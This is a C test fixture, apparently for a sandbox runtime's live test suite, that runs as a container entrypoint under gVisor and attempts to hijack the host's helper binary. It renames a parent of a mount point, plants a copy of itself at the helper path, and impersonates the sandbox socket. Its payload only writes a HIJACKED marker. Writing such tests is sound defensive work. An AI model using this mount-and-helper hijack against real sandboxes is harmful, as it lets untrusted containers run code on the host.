/* Attacker program for tests/live/runtime_attack.rs: the image's
 * entrypoint under gVisor. Modes (argv[1]):
 *   takeover DIR   the image links /run/sbx to DIR/sbx, so the helper's mount
 *                  landed there: move DIR aside (renaming a parent of a mount
 *                  point is allowed), put this program at DIR/sbx/helper,
 *                  then serve /run/sandbox/sandbox.sock
 *   plant PATH     put this program at PATH (e.g. /run/sbx/helper, when a
 *                  writable mount covers /run/sbx), then serve the socket
 *   serve          serve /run/sandbox/sandbox.sock
 * Run as .../helper (sbx's helper path), it prints HIJACKED and leaves
 * /tmp/hijacked, so a test sees sbx ran it. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static int copy_self(const char *to) {
    int in = open("/proc/self/exe", O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (in < 0 || out < 0) return -1;
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, n) != n) return -1;
    close(in);
    return close(out);
}

static void serve(void) {
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    strcpy(a.sun_path, "/run/sandbox/sandbox.sock");
    unlink(a.sun_path);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 16)) {
        perror("bind");
        exit(1);
    }
    chmod(a.sun_path, 0777);
    for (;;) {
        int c = accept(s, 0, 0);
        if (c < 0) continue;
        char buf[4096];
        ssize_t n;
        while ((n = read(c, buf, sizeof buf)) > 0) write(c, buf, n);
        close(c);
    }
}

int main(int argc, char **argv) {
    size_t l = strlen(argv[0]);
    if (l >= 6 && strcmp(argv[0] + l - 6, "helper") == 0) {
        close(open("/tmp/hijacked", O_WRONLY | O_CREAT, 0644));
        printf("HIJACKED\n");
        return 0;
    }
    if (argc > 2 && strcmp(argv[1], "takeover") == 0) {
        char aside[4096], sbx[4096], helper[4096];
        snprintf(aside, sizeof aside, "%s.aside", argv[2]);
        snprintf(sbx, sizeof sbx, "%s/sbx", argv[2]);
        snprintf(helper, sizeof helper, "%s/sbx/helper", argv[2]);
        if (rename(argv[2], aside)) fprintf(stderr, "rename %s: %s\n", argv[2], strerror(errno));
        mkdir(argv[2], 0755);
        mkdir(sbx, 0755);
        if (copy_self(helper)) fprintf(stderr, "plant %s: %s\n", helper, strerror(errno));
        else fprintf(stderr, "planted %s\n", helper);
    }
    if (argc > 2 && strcmp(argv[1], "plant") == 0) {
        if (copy_self(argv[2])) fprintf(stderr, "plant %s: %s\n", argv[2], strerror(errno));
        else fprintf(stderr, "planted %s\n", argv[2]);
    }
    serve();
}
